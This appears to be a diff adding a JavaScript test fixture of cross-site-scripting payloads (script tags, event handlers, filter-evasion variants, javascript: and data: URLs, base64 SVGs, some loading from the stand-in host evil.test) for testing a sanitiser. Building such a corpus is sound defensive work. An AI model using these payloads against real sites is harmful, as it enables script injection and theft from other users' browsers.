@@ -1,0 +1,103 @@
+// What people type who want others' browsers to run it, or to fetch something. All
+// of it fits into a name. Each either calls alert or asks evil.test for something.
+
+const markup = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<script>import('//evil.test/x.js')</script>",
+  "</script><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</style><script>alert(1)</script>",
+  "--><script>alert(1)</script><!--",
+  "]]><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=x onerror=alert`1`>",
+  "<IMG SRC=x OnErRoR=alert(1)//",
+  "<img/src=//evil.test/x.png>",
+  "<img srcset=//evil.test/x.png>",
+  "<img src=x:x onerror=&#97;lert(1)>",
+  "<image href=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg/onload=alert(1)//",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<svg><use href=//evil.test/x.svg#x></svg>",
+  "<svg><image href=//evil.test/x.png></svg>",
+  "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
+  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+  "<math href=javascript:alert(1)>x</math>",
+  "<iframe src=javascript:alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "<iframe src=//evil.test/>",
+  "<object data=javascript:alert(1)>",
+  "<embed src=//evil.test/x.swf>",
+  "<link rel=stylesheet href=//evil.test/x.css>",
+  "<link rel=prefetch href=//evil.test/x>",
+  "<style>@import'//evil.test/x.css'</style>",
+  "<style>*{background:url(//evil.test/x)}</style>",
+  "<base href=//evil.test/>",
+  "<meta http-equiv=refresh content=0;url=//evil.test/>",
+  "<body onload=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<video src=//evil.test/x onerror=alert(1)>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)>",
+  "<marquee onstart=alert(1)>x</marquee>",
+  "<form action=//evil.test/><button>x</button></form>",
+  "<template><script>alert(1)</script></template>",
+  "<a href=javascript:alert(1)>click me</a>",
+  "<a ping=//evil.test/ href=#>click me</a>",
+  "<div style=background:url(//evil.test/x)>x</div>",
+  "<div popover onbeforetoggle=alert(1)>x</div>",
+  "<x contenteditable onblur=alert(1)>x",
+];
+
+const ends = [
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '" onmouseover="alert(1)" x="',
+  "' autofocus onfocus='alert(1)",
+  "`-alert(1)-`",
+  "';alert(1);//",
+  '\\";alert(1);//',
+  "${alert(1)}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(1)&#62;",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "＜script＞alert(1)＜/script＞",
+  "__proto__",
+  "constructor",
+];
+
+/** Addresses that must be no picture and no link. */
+export const addresses = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "java\tscript:alert(1)",
+  " javascript:alert(1)//http://x",
+  "vbscript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "data:text/javascript,alert(1)",
+  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+  `data:image/svg+xml;base64,${picture("<script>alert(1)</script>")}`,
+  `data:image/svg+xml;base64,${picture("<image href='http://evil.test/x.png' width='9' height='9'/>")}`,
+  `data:image/png;base64,${picture("<script>alert(1)</script>")}`,
+  `data:image/png;image/svg+xml;base64,${picture("<script>alert(1)</script>")}`,
+  "blob:http://evil.test/00000000-0000-0000-0000-000000000000",
+  "filesystem:http://evil.test/temporary/x.html",
+  "ftp://evil.test/x.png",
+  "file:///etc/passwd",
+];
+
+/** Everything of it that can be typed. */
+export const texts = [...markup, ...ends, ...addresses.filter((a) => a.length < 90 && !/\t/.test(a) && a === a.trim())];
+
+function picture(content) {
+  return btoa(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${content}</svg>`);
+}
